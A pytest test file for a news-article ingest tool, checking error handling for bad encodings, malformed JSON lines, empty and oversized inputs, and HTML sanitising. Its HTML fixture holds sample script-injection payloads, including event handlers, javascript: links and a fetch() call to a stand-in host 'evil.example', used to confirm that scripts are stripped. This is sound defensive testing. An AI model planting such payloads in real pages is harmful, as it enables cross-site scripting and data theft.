"""Bad input is normal input: one clear line per problem, the batch goes on."""

from __future__ import annotations

import io
import json
import sys
import tracemalloc

import pytest

from frontlines.errors import (
    BinaryInputError,
    EmptyArticleError,
    EncodingError,
    InputError,
    MalformedRecordError,
    TooLargeError,
)
from frontlines.ingest import read_inputs
from frontlines.models import Article

STORY = (
    "Taliban fighters captured the centre of Dand-e-Ghori district in Baghlan province on "
    "Sunday after two days of fighting, provincial officials said."
)


def read(*paths):
    return list(read_inputs([str(p) for p in paths]))


def batch(tmp_path, name: str, data: bytes):
    """The bad input between two good ones: [good, bad result, good]."""
    (tmp_path / "a_good.txt").write_text(STORY)
    (tmp_path / name).write_bytes(data)
    (tmp_path / "z_good.txt").write_text(STORY.replace("Sunday", "Monday"))
    items = read(tmp_path / "a_good.txt", tmp_path / name, tmp_path / "z_good.txt")
    assert len(items) == 3
    assert isinstance(items[0], Article) and isinstance(items[2], Article)
    return items[1]


def assert_one_line(error: InputError, origin: str):
    line = error.one_line()
    assert "\n" not in line
    assert line.startswith(f"{origin}: ")
    assert line.endswith(f"[{error.code}]")


def test_binary_file(tmp_path):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8
    error = batch(tmp_path, "photo.txt", png)
    assert isinstance(error, BinaryInputError)
    assert_one_line(error, str(tmp_path / "photo.txt"))


def test_undecodable_bytes(tmp_path):
    error = batch(tmp_path, "broken.txt", bytes(range(128, 256)) * 40)
    assert isinstance(error, EncodingError | BinaryInputError)
    assert_one_line(error, str(tmp_path / "broken.txt"))


def test_legacy_encoding_is_decoded_with_a_warning(tmp_path):
    text = "“The district has been cleared,” the governor said — " + STORY
    article = batch(tmp_path, "cp1252.txt", text.encode("cp1252"))
    assert isinstance(article, Article)
    assert article.text == text
    assert any("not UTF-8" in w for w in article.warnings)


def test_stray_byte_in_utf8_is_replaced_with_a_warning(tmp_path):
    data = (STORY + " " + STORY.replace("Sunday", "Friday")).encode() + b" \xff " + STORY.encode()
    article = batch(tmp_path, "stray.txt", data * 3)
    assert isinstance(article, Article)
    assert "\ufffd" in article.text
    assert any("undecodable byte" in w for w in article.warnings)


def test_utf16_with_bom(tmp_path):
    article = batch(tmp_path, "u16.txt", STORY.replace("Sunday", "Tuesday").encode("utf-16"))
    assert isinstance(article, Article) and "Tuesday" in article.text


def test_malformed_json_lines_name_file_and_line(tmp_path):
    path = tmp_path / "batch.jsonl"
    lines = [
        json.dumps({"id": "ok1", "text": STORY}),
        '{"id": "broken", "text": "unterminated',
        "[1, 2, 3]",
        json.dumps({"id": "no-text", "title": "x"}),
        json.dumps({"id": "bad-type", "text": 42}),
        json.dumps({"id": "empty", "text": "   "}),
        json.dumps({"id": {"nested": 1}, "text": STORY}),
        json.dumps({"id": "ok2", "text": STORY.replace("Sunday", "Monday")}),
    ]
    path.write_text("\n".join(lines) + "\n")
    items = read(path)
    assert [getattr(i, "id", None) for i in items if isinstance(i, Article)] == ["ok1", "ok2"]
    errors = [i for i in items if isinstance(i, InputError)]
    assert [e.origin for e in errors] == [f"{path}:{n}" for n in range(2, 8)]
    assert all(isinstance(e, MalformedRecordError) for e in errors)
    for error in errors:
        assert_one_line(error, error.origin)
    assert "malformed JSON" in errors[0].message


def test_unknown_fields_are_a_warning(tmp_path):
    path = tmp_path / "extra.jsonl"
    path.write_text(json.dumps({"id": "a", "text": STORY, "author": "x"}) + "\n")
    [article] = read(path)
    assert article.warnings == ["fields ignored: author"]


@pytest.mark.parametrize(
    "name,data",
    [
        ("empty.txt", b""),
        ("blank.txt", b"  \n\n\t \n"),
        ("nothing.html", b"<html><head><title>t</title></head><body><script>x()</script></body></html>"),
    ],
)
def test_empty_articles(tmp_path, name, data):
    error = batch(tmp_path, name, data)
    assert isinstance(error, EmptyArticleError)
    assert_one_line(error, str(tmp_path / name))


def test_non_english_article_is_read_with_its_language(tmp_path):
    german = (
        "Die Taliban haben am Sonntag nach zweitägigen Kämpfen das Zentrum des Bezirks "
        "Dand-e-Ghori in der Provinz Baghlan eingenommen, teilten Behördenvertreter mit."
    )
    article = batch(tmp_path, "de.txt", german.encode())
    assert isinstance(article, Article)
    assert article.language == "de"


def test_nigerian_english_is_english_and_pidgin_is_pidgin():
    from frontlines.ingest.language import detect_language

    # py3langid alone calls the first Nigerian Pidgin and so skips it
    assert detect_language("Nigerian troops recaptured Malam Fatori from Islamic State West Africa Province fighters.") == "en"
    assert detect_language("Sojas don kill ten Boko Haram fighters for Borno State, di army tok for statement wey dem release on Monday.") == "pcm"


def test_huge_file_is_refused_before_it_is_read(tmp_path):
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as f:  # 50 MB of text
        chunk = (STORY + "\n").encode() * 1000
        for _ in range(50_000_000 // len(chunk) + 1):
            f.write(chunk)
    tracemalloc.start()
    items = read(huge)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    [error] = items
    assert isinstance(error, TooLargeError)
    assert_one_line(error, str(huge))
    assert "max_article_bytes" in error.message
    assert peak < 5_000_000  # refused from its size, not after reading 50 MB


def test_huge_jsonl_line_is_refused_and_the_next_lines_read(tmp_path):
    path = tmp_path / "huge.jsonl"
    with path.open("wb") as f:
        f.write(json.dumps({"id": "first", "text": STORY}).encode() + b"\n")
        f.write(b'{"id": "huge", "text": "' + b"word " * 10_000_000 + b'"}\n')
        f.write(json.dumps({"id": "last", "text": STORY.replace("Sunday", "Monday")}).encode() + b"\n")
    tracemalloc.start()
    items = read(path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [type(i).__name__ for i in items] == ["Article", "TooLargeError", "Article"]
    assert items[1].origin == f"{path}:2"
    assert peak < 20_000_000  # at most the limit is ever held, never the 50 MB line


def test_huge_stdin_is_refused(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"a " * 3_000_000)))
    [error] = list(read_inputs(["-"]))
    assert isinstance(error, TooLargeError) and error.origin == "<stdin>"


SCRIPT_PAGE = """<!DOCTYPE html><html><head><title>Dand-e-Ghori falls</title>
<script>var a = "LEAK-1"; document.write("LEAK-2");</script>
<style>body { background: url("LEAK-3") }</style></head>
<body onload="alert('LEAK-4')">
<nav><a href="javascript:alert('LEAK-5')">LEAK-5 menu</a></nav>
<article><h1>Dand-e-Ghori falls</h1>
<p onclick="steal('LEAK-6')" onmouseover="x('LEAK-7')">{story}</p>
<script type="text/javascript">fetch("https://evil.example/LEAK-8")</script>
<noscript>LEAK-9 please enable javascript</noscript>
<p>Nine members of the security forces were killed and 14 wounded, the police said.</p>
<img src="x" onerror="alert('LEAK-10')"><a href="javascript:void('LEAK-11')">more</a>
<iframe src="javascript:alert('LEAK-12')">LEAK-12</iframe>
</article></body></html>"""


def test_html_scripts_and_handlers_never_reach_the_text(tmp_path):
    article = batch(tmp_path, "page.html", SCRIPT_PAGE.replace("{story}", STORY).encode())
    assert isinstance(article, Article)
    assert STORY in article.text
    assert "Nine members of the security forces" in article.text
    for marker in ("LEAK", "alert", "javascript", "fetch(", "document.write", "<"):
        assert marker not in article.text, marker
    assert "LEAK" not in (article.title or "")


def test_script_in_a_text_file_is_dropped(tmp_path):
    text = f"{STORY} <script>alert('LEAK')</script> The police said nine soldiers were killed."
    article = batch(tmp_path, "s.txt", text.encode())
    assert STORY in article.text and "LEAK" not in article.text and "alert" not in article.text


def test_unreadable_file_is_an_error(tmp_path):
    directory_named_txt = tmp_path / "dir.txt"
    directory_named_txt.mkdir()
    (directory_named_txt / "inner.txt").write_text(STORY)
    # a directory is read as a directory, even when named like a file
    assert [type(i).__name__ for i in read(directory_named_txt)] == ["Article"]
